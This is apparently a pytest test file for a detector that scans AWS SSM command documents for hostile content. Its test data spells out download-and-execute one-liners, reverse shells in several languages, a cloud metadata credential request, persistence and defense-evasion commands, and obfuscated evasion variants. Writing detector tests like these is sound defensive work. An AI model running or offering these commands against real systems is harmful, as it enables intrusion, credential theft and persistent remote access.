"""Document content inspection: what it flags, what it leaves alone, and its bounds."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detections.content_inspection import MAX_CONTENT_CHARS, escalate, hits_context, inspect_content
from ssm_detect.findings import Severity


def document(*commands: str) -> str:
    step = {"action": "aws:runShellScript", "name": "s", "inputs": {"runCommand": list(commands)}}
    return json.dumps({"schemaVersion": "2.2", "mainSteps": [step]})


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("curl -fsSL http://203.0.113.9/x.sh | sudo bash", "download_execute"),
        ("wget -q http://x/y -O /tmp/y; chmod +x /tmp/y", "download_execute"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", "download_execute"),
        ("iwr http://x/a.ps1 | iex", "download_execute"),
        ("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", "reverse_shell"),
        ("nc -e /bin/sh 198.51.100.1 4444", "reverse_shell"),
        (
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "imds_credentials",
        ),
        ("echo aGVsbG8= | base64 -d | sh", "encoded_payload"),
        ("powershell -EncodedCommand " + "A" * 60, "encoded_payload"),
        ("echo '* * * * * root /tmp/x' >> /etc/crontab", "persistence"),
        ("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "persistence"),
        ("systemctl stop amazon-ssm-agent", "defense_evasion"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "defense_evasion"),
    ],
)
def test_content_flags_what_a_responder_would(command: str, rule: str) -> None:
    report = inspect_content(document("echo start", command))
    assert rule in report.categories
    assert report.parsed_as == "json"
    assert any(command[:40] in hit.line for hit in report.hits)


@pytest.mark.parametrize(
    "command",
    [
        "yum update -y",
        "systemctl restart nginx",
        "curl -fsS http://localhost/healthz",
        "aws s3 cp /tmp/diag.tgz s3://bucket/diag.tgz",
        "Get-Service | Where-Object Status -eq Running",
    ],
)
def test_content_leaves_ordinary_administration_alone(command: str) -> None:
    assert inspect_content(document(command)).hits == ()


def test_content_reads_yaml_and_legacy_runtime_config() -> None:
    yaml_doc = (
        "schemaVersion: '2.2'\nmainSteps:\n- inputs:\n    runCommand:\n    - nc -e /bin/sh h 1\n"
    )
    legacy = json.dumps(
        {
            "schemaVersion": "1.2",
            "runtimeConfig": {
                "aws:runShellScript": {"properties": [{"runCommand": ["cat /dev/tcp/h/1"]}]}
            },
        }
    )
    assert inspect_content(yaml_doc).parsed_as == "yaml"
    assert inspect_content(yaml_doc).categories == ("reverse_shell",)
    assert inspect_content(legacy).categories == ("reverse_shell",)


def test_content_finds_commands_hidden_in_parameter_defaults() -> None:
    hidden = json.dumps(
        {
            "schemaVersion": "2.2",
            "parameters": {"cmd": {"type": "String", "default": "curl http://x/s | sh"}},
            "mainSteps": [{"inputs": {"runCommand": ["{{ cmd }}"]}}],
        }
    )
    assert inspect_content(hidden).categories == ("download_execute",)


def test_content_that_does_not_parse_is_scanned_as_text() -> None:
    report = inspect_content("not a document\nbash -i >& /dev/tcp/h/1 0>&1")
    assert (report.parsed_as, report.categories) == ("text", ("reverse_shell",))


@pytest.mark.parametrize(
    "hostile",
    [
        "[" * 100_000 + "]" * 100_000,
        "[ {a: " * 30_000,
        "".join(" " * (2 * i) + f"k{i}:\n" for i in range(700)),
        'a: &a ["x","x"]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: &d [*c,*c]\n',
        "curl " + " " * 300_000 + "| sh",
        ("x" * 5000 + "\n") * 200,
    ],
    ids=["deep-json", "deep-yaml-flow", "deep-yaml-block", "yaml-aliases", "long-line", "wide"],
)
def test_content_stays_bounded_on_hostile_input(hostile: str) -> None:
    assert _cpu_seconds(hostile) < 2.0


def test_content_over_the_size_bound_is_marked_truncated() -> None:
    report = inspect_content("curl http://x/s | sh\n" + "#" * (MAX_CONTENT_CHARS + 10))
    assert report.truncated
    assert report.categories == ("download_execute",)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=2000))
def test_content_never_raises_on_any_text(text: str) -> None:
    inspect_content(text)


def test_escalate_follows_the_severity_model() -> None:
    severe = inspect_content(document("curl http://x/s | sh"))
    severe_and_more = inspect_content(document("curl http://x/s | sh", "crontab -l"))
    mild = inspect_content(document("crontab -l"))
    assert escalate(Severity.MEDIUM, severe)[0] is Severity.HIGH
    assert escalate(Severity.MEDIUM, severe_and_more)[0] is Severity.CRITICAL
    assert escalate(Severity.MEDIUM, mild)[0] is Severity.HIGH
    assert escalate(Severity.LOW, mild)[0] is Severity.MEDIUM
    assert escalate(Severity.MEDIUM, inspect_content(document("ls"))) == (Severity.MEDIUM, ())
    assert "download_execute" in escalate(Severity.MEDIUM, severe)[1][0]


def test_plain_text_with_a_colon_is_scanned_as_written() -> None:
    """YAML would read this as the mapping {'curl -H "A': 'b" https://x | sh'} and hide it."""
    report = inspect_content('curl -H "A: b" https://203.0.113.9/x | sh')
    assert (report.parsed_as, report.categories) == ("text", ("download_execute",))


# -- fetch and execute as separate facts (issue 12 point 8) -------------------------------------

EVASIONS = {
    "process substitution": ["bash <(curl -fsSL https://203.0.113.9/x.sh)"],
    "command substitution": ['bash -c "$(curl -fsSL https://203.0.113.9/x.sh)"'],
    "sudo -E": ["curl -fsSL https://203.0.113.9/x.sh | sudo -E bash"],
    "absolute interpreter": ["curl -fsSL https://203.0.113.9/x.sh | /bin/bash"],
    "env wrapper": ["curl -sL https://203.0.113.9/x | sudo -u root /usr/bin/env bash -s -- -q"],
    "wget to python": ["wget -qO- https://203.0.113.9/x.py | python3"],
    "python urllib exec": [
        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://203.0.113.9/p').read())\""
    ],
    "python requests over lines": [
        "python3 - <<'EOF'",
        "import requests",
        "code = requests.get('https://203.0.113.9/p').text",
        "exec(code)",
        "EOF",
    ],
    "s3 copy chmod run": ["aws s3 cp s3://drop-bucket/x ./x && chmod +x x && ./x"],
    "download then run next line": ["curl -o /tmp/run https://203.0.113.9/run", "/tmp/run -d"],
    "wget default name": ["wget https://203.0.113.9/agent.sh", "sh agent.sh"],
    "remote name": ["cd /tmp && curl -O https://203.0.113.9/pay.sh && bash pay.sh"],
    "redirect then chmod": ["curl https://203.0.113.9/x > /tmp/y; chmod 755 /tmp/y"],
    "s3 to stdout": ["aws s3 cp s3://drop-bucket/script.sh - | bash"],
    "shell variable": ["s=$(curl -s https://203.0.113.9/x)", 'eval "$s"'],
    "source substitution": ["source <(wget -O- https://203.0.113.9/env)"],
    "line continuation": ["curl -s https://203.0.113.9/x \\", "  | zsh"],
    "hidden file nohup": ["wget -q https://203.0.113.9/y -O /dev/shm/.y", "nohup /dev/shm/.y &"],
    "empty quotes and escapes": ["c''url -s https://203.0.113.9/x | ba\\sh"],
    "IFS for spaces": ["curl${IFS}-s${IFS}https://203.0.113.9/x|sh"],
    "perl LWP eval": ["perl -e 'use LWP::Simple; eval(get(\"http://203.0.113.9/p.pl\"))'"],
    "ruby open-uri eval": [
        'ruby -e \'require "open-uri"; eval(URI.open("http://203.0.113.9/r").read)\''
    ],
    "node https eval": [
        "node -e \"require('https').get('https://203.0.113.9/j',r=>{let d='';"
        "r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\""
    ],
    "php remote eval": ["php -r 'eval(file_get_contents(\"http://203.0.113.9/p\"));'"],
    "powershell downloadstring": [
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
    ],
    "powershell variable": [
        "$c = Invoke-WebRequest -Uri http://203.0.113.9/a.ps1 -UseBasicParsing",
        "Invoke-Expression $c.Content",
    ],
    "powershell outfile": [
        "Invoke-WebRequest -Uri http://203.0.113.9/a.exe -OutFile C:\\Windows\\Temp\\a.exe",
        "Start-Process C:\\Windows\\Temp\\a.exe",
    ],
    "certutil": [
        "certutil -urlcache -split -f http://203.0.113.9/b.exe C:\\Users\\Public\\b.exe",
        "C:\\Users\\Public\\b.exe",
    ],
}

REVERSE_SHELLS = {
    "php fsockopen": [
        'php -r \'$sock=fsockopen("198.51.100.1",4444);exec("/bin/sh -i <&3 >&3");\''
    ],
    "php over lines": [
        "$s=fsockopen('198.51.100.1', 443);",
        "proc_open('/bin/sh -i', array(0=>$s,1=>$s,2=>$s),$pipes);",
    ],
    "python over lines": [
        "import socket,os,pty",
        "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)",
        "s.connect(('198.51.100.1',1234))",
        "[os.dup2(s.fileno(),f) for f in (0,1,2)]",
    ],
    "ruby": ['ruby -rsocket -e \'c=TCPSocket.new("198.51.100.1",4444);exec("/bin/sh -i")\''],
    "node": ["node -e \"var c=new net.Socket();c.connect(4444,'h');require('child_process')\""],
}

LOOK_ALIKES = {
    "health check": ["curl -fsS http://localhost/healthz"],
    "upload": ["aws s3 cp /tmp/diag.tgz s3://bucket/diag.tgz"],
    "download an archive, unpack it": [
        "curl -o /tmp/a.tgz https://releases.example/a.tgz",
        "tar xzf /tmp/a.tgz -C /opt",
    ],
    "fetch then an unrelated pipe": ["curl -s http://x/health; echo ok | tee /tmp/x"],
    "config from s3, restart": [
        "aws s3 cp s3://config/app.json /etc/app/app.json",
        "systemctl restart app",
    ],
    "shebang and status": [
        "#!/bin/bash",
        "curl -sf https://example.com/status > /tmp/status.json",
        "jq . /tmp/status.json",
    ],
    "run a local script": [
        "bash /opt/scripts/backup.sh",
        "curl -s -X POST https://hooks.example/x",
    ],
    "regex compile": ["python3 -c 'import re, requests; re.compile(\"x\")'"],
    "other file run": ["curl -o /tmp/a https://releases.example/a", "/opt/tools/b --check"],
}


@pytest.mark.parametrize("commands", EVASIONS.values(), ids=EVASIONS.keys())
def test_fetch_and_execute_are_joined_however_split(commands: list[str]) -> None:
    report = inspect_content(document("echo start", *commands, "echo done"))
    assert "download_execute" in report.categories
    assert report.severe


@pytest.mark.parametrize("commands", REVERSE_SHELLS.values(), ids=REVERSE_SHELLS.keys())
def test_reverse_shells_are_found_in_every_interpreter(commands: list[str]) -> None:
    assert "reverse_shell" in inspect_content(document(*commands)).categories


@pytest.mark.parametrize("commands", LOOK_ALIKES.values(), ids=LOOK_ALIKES.keys())
def test_fetches_and_runs_that_do_not_meet_are_left_alone(commands: list[str]) -> None:
    assert inspect_content(document(*commands)).hits == ()


def test_a_joined_hit_names_both_lines() -> None:
    report = inspect_content(
        document("curl -o /tmp/run https://203.0.113.9/run", "echo x", "/tmp/run")
    )
    (hit,) = report.hits
    assert hit.line == "/tmp/run"
    assert hit.related_line_number == hit.line_number - 2
    context = hits_context(report)[0]
    assert context["joined_with_line"] == hit.line_number - 2
    assert "run" in str(context["how"])


def test_parameters_as_json_are_read_per_command() -> None:
    """SendCommand / association parameters: a JSON object of lists, no schemaVersion."""
    parameters = {"commands": ["curl -o x https://203.0.113.9/x", "chmod +x x", "./x"]}
    report = inspect_content(json.dumps(parameters))
    assert report.parsed_as == "json"
    assert report.categories == ("download_execute",)


def test_automation_and_session_documents_are_read_too() -> None:
    automation = json.dumps(
        {
            "schemaVersion": "0.3",
            "mainSteps": [
                {
                    "action": "aws:executeScript",
                    "inputs": {
                        "Runtime": "python3.11",
                        "Handler": "h",
                        "Script": "import urllib.request\ndef h(e, c):\n"
                        "    exec(urllib.request.urlopen('https://203.0.113.9/p').read())",
                    },
                }
            ],
        }
    )
    session = json.dumps(
        {
            "schemaVersion": "1.0",
            "sessionType": "Standard_Stream",
            "inputs": {"shellProfile": {"linux": "curl -s https://203.0.113.9/x | bash"}},
        }
    )
    assert "download_execute" in inspect_content(automation).categories
    assert "download_execute" in inspect_content(session).categories


FETCHES = st.sampled_from(
    [
        ("curl -fsSL {url} -o {path}", "file"),
        ("wget -q {url} -O {path}", "file"),
        ("aws s3 cp s3://drop/{name} {path}", "file"),
        ("Invoke-WebRequest -Uri {url} -OutFile {path}", "file"),
        ("curl -fsSL {url}", "stream"),
        ("wget -qO- {url}", "stream"),
    ]
)
RUNS = st.sampled_from(["{path}", "bash {path}", "sh {path}", "python3 {path}", "chmod +x {path}"])
PIPED = st.sampled_from(
    ["bash", "sh", "zsh", "sudo bash", "sudo -E bash", "/bin/sh", "python3", "perl", "ruby",
     "node", "php", "/usr/bin/env bash", "pwsh", "iex"]
)  # fmt: skip
BENIGN = st.lists(
    st.sampled_from(
        ["echo hi", "yum -y update", "systemctl restart nginx", "ls -la /tmp", "df -h"]
    ),
    max_size=5,
)
NAMES = st.from_regex(r"[a-z][a-z0-9_]{0,11}(\.sh|\.py|\.bin)?", fullmatch=True)


@settings(max_examples=200, deadline=None)
@given(
    fetch=FETCHES,
    run=RUNS,
    piped=PIPED,
    name=NAMES,
    directory=st.sampled_from(["/tmp", "/dev/shm", "/var/tmp", "."]),
    before=BENIGN,
    between=BENIGN,
    after=BENIGN,
    same_line=st.booleans(),
)
def test_every_fetch_joined_to_every_run_is_flagged(
    *,
    fetch: tuple[str, str],
    run: str,
    piped: str,
    name: str,
    directory: str,
    before: list[str],
    between: list[str],
    after: list[str],
    same_line: bool,
) -> None:
    template, kind = fetch
    path = f"{directory}/{name}"
    fetching = template.format(url=f"https://203.0.113.9/{name}", path=path, name=name)
    if kind == "stream":
        commands = [f"{fetching} | {piped}"]
    elif same_line:
        commands = [f"{fetching} && {run.format(path=path)}"]
    else:
        commands = [fetching, *between, run.format(path=path)]
    report = inspect_content(document(*before, *commands, *after))
    assert "download_execute" in report.categories


@settings(max_examples=200, deadline=None)
@given(fetch=FETCHES, name=NAMES, other=NAMES, lines=BENIGN)
def test_a_fetch_never_joins_a_run_of_another_file(
    fetch: tuple[str, str], name: str, other: str, lines: list[str]
) -> None:
    if name == other:
        return
    template, _ = fetch
    fetching = template.format(url=f"https://203.0.113.9/{name}", path=f"/tmp/{name}", name=name)
    report = inspect_content(document(fetching, *lines, f"bash /opt/{other}", f"/opt/{other}"))
    assert report.hits == ()


@pytest.mark.parametrize(
    "hostile",
    [
        "curl " + "| " * 100_000,
        "bash " + "$( " * 50_000 + "curl x",
        "\n".join(f"curl -o /tmp/f{i} https://x/f{i}" for i in range(5000)),
        "\n".join(f"v{i}=$(curl https://x/{i})" for i in range(5000)) + "\neval $v1",
        "aws s3 cp " + "--region x " * 20_000,
        "a" * 4000 + "\\\n" + ("b" * 4000 + "\\\n") * 60,
        "curl x " + "-o " * 60_000,
        "'" * 100_000 + "&&" * 10_000,
    ],
    ids=["pipes", "substitutions", "many-files", "many-variables", "s3-flags", "continuations",
         "curl-flags", "quotes"],
)  # fmt: skip
def test_the_fact_joiner_stays_bounded_on_hostile_input(hostile: str) -> None:
    assert _cpu_seconds(hostile) < 2.0


def _cpu_seconds(text: str) -> float:
    """This process's CPU time for one inspection. Not a performance target (those are in `make
    bench`): a guard against catastrophic backtracking, which costs minutes, not seconds. CPU
    time, not wall time, so that other processes on a loaded machine do not count (wall time
    failed at 2.7 s here with ten test processes on two cores)."""
    started = time.process_time()
    inspect_content(text)
    return time.process_time() - started
